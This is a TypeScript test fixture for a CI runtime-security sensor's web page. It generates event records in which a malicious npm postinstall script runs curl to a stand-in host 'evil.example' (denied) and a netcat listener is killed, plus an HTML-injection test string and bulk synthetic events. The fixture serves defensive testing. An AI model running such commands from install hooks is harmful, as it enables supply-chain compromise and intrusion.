/**
 * Events for the web page's tests: a small job with a blocked connection
 * and a killed process, and a large synthetic one.
 *
 * @module
 */

import type { RingfenceEvent } from "../../sensors/events.ts";

const base = {
  time: "2026-12-03T10:00:00.000000000Z",
  tid: 0,
  uid: 1001,
  gid: 1001,
  cgroup_id: 1,
};

/** A small job: a shell runs curl (blocked) and nc (killed by process.deny). */
export function fixtureEvents(): RingfenceEvent[] {
  const step = { name: "Build", pid: 10, ci: "github" };
  return [
    {
      ...base,
      type: "process_event",
      kind: "exec",
      pid: 10,
      ppid: 1,
      comm: "bash",
      path: "/bin/bash",
      argv: ["bash", "-c", "echo </script><b>x</b>"],
      step,
    },
    {
      ...base,
      type: "process_event",
      kind: "fork",
      pid: 11,
      ppid: 10,
      comm: "bash",
      step,
    },
    {
      ...base,
      type: "process_event",
      kind: "exec",
      pid: 11,
      ppid: 10,
      comm: "curl",
      path: "/usr/bin/curl",
      argv: ["curl", "http://evil.example/"],
      step,
      dependency: {
        ecosystem: "npm",
        name: "evil",
        version: "1.0.0",
        script: "postinstall",
      },
    },
    {
      ...base,
      type: "network_event",
      kind: "dns",
      pid: 11,
      ppid: 10,
      comm: "curl",
      protocol: "udp",
      family: 4,
      daddr: "127.0.0.53",
      dport: 53,
      verdict: "allow",
      reason: "resolver",
      query: "evil.example",
      qtype: "A",
      step,
    },
    {
      ...base,
      type: "network_event",
      kind: "connect",
      pid: 11,
      ppid: 10,
      comm: "curl",
      protocol: "tcp",
      family: 4,
      daddr: "198.51.100.7",
      dport: 80,
      verdict: "deny",
      reason: "not_in_allow_list",
      exe: "/usr/bin/curl",
      step,
    },
    {
      ...base,
      type: "process_event",
      kind: "exit",
      pid: 11,
      ppid: 10,
      comm: "curl",
      exit_code: 7,
      signal: 0,
      step,
    },
    {
      ...base,
      type: "process_event",
      kind: "fork",
      pid: 12,
      ppid: 10,
      comm: "bash",
      step,
    },
    {
      ...base,
      type: "process_event",
      kind: "exec",
      pid: 12,
      ppid: 10,
      comm: "nc",
      path: "/usr/bin/nc",
      argv: ["nc", "-l", "9"],
      verdict: "deny",
      killed: true,
      rule: "/usr/bin/nc",
      file: "/usr/bin/nc",
      reason: "exec",
      step,
    },
    {
      ...base,
      type: "process_event",
      kind: "exit",
      pid: 12,
      ppid: 10,
      comm: "nc",
      exit_code: 0,
      signal: 9,
      step,
    },
    {
      ...base,
      type: "file_system_event",
      kind: "create",
      pid: 10,
      ppid: 1,
      comm: "bash",
      path: "/home/runner/work/x/out.txt",
      verdict: "allow",
      reason: "none",
      step,
    },
  ] as RingfenceEvent[];
}

/** `count` synthetic events: many processes, each connecting and writing. */
export function syntheticEvents(count: number): RingfenceEvent[] {
  const events: RingfenceEvent[] = [];
  for (let index = 0; events.length < count; index++) {
    const pid = 1000 + index;
    const step = { name: `Step ${index % 30}`, pid: 999, ci: "github" };
    events.push(
      {
        ...base,
        type: "process_event",
        kind: "fork",
        pid,
        ppid: 1000 + Math.floor(index / 3),
        comm: "node",
        step,
      } as RingfenceEvent,
    );
    events.push(
      {
        ...base,
        type: "process_event",
        kind: "exec",
        pid,
        ppid: 1,
        comm: "node",
        path: "/usr/bin/node",
        argv: ["node", "-e", "x".repeat(300), String(index)],
        step,
      } as RingfenceEvent,
    );
    for (let n = 0; n < 20; n++) {
      events.push({
        ...base,
        type: "network_event",
        kind: "connect",
        pid,
        ppid: 1,
        comm: "node",
        protocol: "tcp",
        family: 4,
        daddr: `10.${index % 250}.${n}.${index % 7}`,
        dport: 443 + n,
        verdict: n % 5 ? "allow" : "deny",
        reason: "not_in_allow_list",
        query: `host${index}-${n}.example.com`,
        step,
      } as RingfenceEvent);
      events.push({
        ...base,
        type: "file_system_event",
        kind: "create",
        pid,
        ppid: 1,
        comm: "node",
        path: `/home/runner/work/repo/node_modules/pkg${index}/file${n}.js`,
        verdict: "allow",
        reason: "none",
        step,
      } as RingfenceEvent);
    }
  }
  return events.slice(0, count);
}
